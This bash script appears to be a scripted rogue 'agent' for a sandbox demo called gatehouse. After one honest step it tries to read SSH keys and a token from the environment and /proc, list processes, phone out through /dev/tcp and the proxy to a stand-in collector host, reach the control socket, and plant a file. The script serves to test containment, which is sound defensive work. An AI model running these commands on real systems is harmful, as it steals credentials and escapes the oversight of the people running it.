# The agent of `gatehouse demo`: does a little honest work, then everything an agent must not be able to do. It tries
# in earnest: what it gets goes into the workspace, where the demo looks for it afterwards.
#
#   bash agent.sh KEY_FILE COLLECTOR_PORT CONTROL_SOCKET
#
# Needs bash (its /dev/tcp) and coreutils.
key_file=$1
collector_port=$2
control_socket=$3
collector_host=collector.example
loot=loot.txt
: >"$loot"
scratch=$(mktemp -d) || exit 1

say() { printf '%s\n' "$*"; }
# Says how an attempt went. "Got" is what nobody wants to read.
got() { say "   got $*"; }
no() { say "   no: $*"; }

# Runs a command, keeps what it finds, and says in the end which of both it was.
try() {
  local name=$1 found
  shift
  if found=$("$@" 2>"$scratch/complaint") && [ -n "$found" ]; then
    printf '== %s\n%s\n' "$name" "$found" >>"$loot"
    got "$name"
  else
    no "$(head -n 1 "$scratch/complaint" | sed 's/^.*: line [0-9]*: //')"
  fi
}

say '1. The task: read the README, write a report.'
words=$(wc -w <README.md) && printf '# Report\n\nThe README has %s words.\n' "$words" >report.md && say "   wrote report.md"

say '2. Read an SSH key.'
try 'the key' cat "$key_file"
try 'the home folder of keys' ls -A "$HOME/.ssh"

say '3. Find a token: in the environment, then in other programs.'
try 'the token' sh -c 'env | grep GATEHOUSE_DEMO_TOKEN || { echo "no such variable" >&2; false; }'
try 'a token of another program' sh -c 'cat /proc/[0-9]*/environ 2>/dev/null | tr "\0" "\n" | grep GATEHOUSE_DEMO_TOKEN || { echo "no program that is visible has it" >&2; false; }'

say '4. Look at what else runs here.'
for file in /proc/[0-9]*/cmdline; do tr '\0' ' ' <"$file" 2>/dev/null && echo; done | sort -u >processes.txt
say "   sees $(grep -c . processes.txt) processes, all of this session"

# Speaks to an address without asking anybody. $1 host, $2 port.
direct() {
  timeout 5 bash -c 'exec 3<>"/dev/tcp/$0/$1" && printf "GET /direct HTTP/1.0\r\n\r\n" >&3 && head -n 1 <&3' "$1" "$2"
}
# Speaks to the proxy, which the environment names. $1 is the request's first line, $2 its Host.
proxied() {
  local proxy=${http_proxy:-${HTTP_PROXY:-}}
  proxy=${proxy#*://}
  proxy=${proxy#*@}
  proxy=${proxy%/}
  [ -n "$proxy" ] || { echo 'no proxy is named' >&2; return 1; }
  timeout 20 bash -c 'exec 3<>"/dev/tcp/${0%:*}/${0##*:}" && printf "%s\r\nHost: %s\r\nConnection: close\r\n\r\n" "$1" "$2" >&3 && cat <&3' \
    "$proxy" "$1" "$2" >"$scratch/answer" || return 1
  case $(head -n 1 "$scratch/answer") in
  *' 200'*) cat "$scratch/answer" ;;
  *)
    # The first sentence of the body is the reason, in words.
    { head -n 1 "$scratch/answer" | tr -d '\r' | cut -d ' ' -f 2- | tr '\n' ' '; sed '1,/^\r*$/d' "$scratch/answer" | head -n 1 | sed 's/\. .*/./'; } >&2
    return 1
    ;;
  esac
}

say '5. Phone out: directly.'
try 'an answer from this machine' direct 127.0.0.1 "$collector_port"
try 'an answer from the network' direct 192.0.2.1 80

say '6. Phone out: through the proxy.'
try "a tunnel to $collector_host" proxied "CONNECT $collector_host:443 HTTP/1.1" "$collector_host:443"
try 'an answer through the proxy' proxied "GET http://127.0.0.1:$collector_port/proxied HTTP/1.1" "127.0.0.1:$collector_port"

say '7. Talk to Gatehouse itself.'
try 'the control socket' sh -c '[ -e "$0" ] && echo "$0" || { echo "no such socket" >&2; false; }' "$control_socket"

say '8. Leave something where it does not belong.'
(mkdir -p "$(dirname "$key_file")" && echo planted >"$key_file.planted") 2>/dev/null
say '   tried to write beside the key'
say 'Done.'
exit 0
